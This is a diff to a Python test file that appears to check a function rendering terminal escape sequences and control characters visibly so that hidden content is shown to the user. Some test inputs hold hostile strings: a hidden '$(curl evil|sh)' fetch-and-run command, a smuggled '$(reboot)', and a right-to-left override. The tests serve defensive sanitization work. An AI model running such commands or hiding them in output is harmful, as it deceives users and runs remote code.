@@ -494,15 +494,12 @@ def test_deeply_nested_substitutions_do_not_recurse_forever() -> None:
 @pytest.mark.parametrize(
     ("raw", "shown"),
     [
-        ("ls\x1b[2J\x1b[Hrm", "lsrm"),
-        ("\x1b]0;pwned\x07ok", "ok"),
-        ("\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\", "link"),
-        ("\x1bPq#0;2;0;0;0\x1b\\after", "after"),
-        ("\x9b31mred", "red"),
-        ("\x1b(Bplain", "plain"),
-        ("\x1b]0;unterminated", ""),
-        ("bell\x07back\x08space\x7f", "bellbackspace"),
-        ("\u202eevil\u202c", "evil"),
+        ("ls\x1b[2J\x1b[Hrm", "ls␛[2J␛[Hrm"),
+        ("ls \x1b]0;$(curl evil|sh)\x07 /tmp", "ls ␛]0;$(curl evil|sh)\\x07 /tmp"),  # nothing hidden is dropped
+        ("ls \x9d$(reboot)", "ls \\x9d$(reboot)"),
+        ("\x9b31mred", "\\x9b31mred"),
+        ("bell\x07back\x08space\x7f", "bell\\x07back\\x08space\\x7f"),
+        ("\u202eevil\u202c", "\\u202eevil\\u202c"),
         ("a\tb", "a b"),
         ("one\ntwo\r\nthree\rfour", "one⏎two⏎three⏎four"),
         ("héllo 日本 ✓", "héllo 日本 ✓"),
@@ -513,7 +510,7 @@ def test_sanitize_for_display(raw: str, shown: str) -> None:
 
 
 def test_sanitize_can_keep_newlines() -> None:
-    assert sanitize_for_display("a\nb\x1b[1m", keep_newlines=True) == "a\nb"
+    assert sanitize_for_display("a\nb\x1b[1m", keep_newlines=True) == "a\nb␛[1m"
 
 
 @settings(max_examples=500)
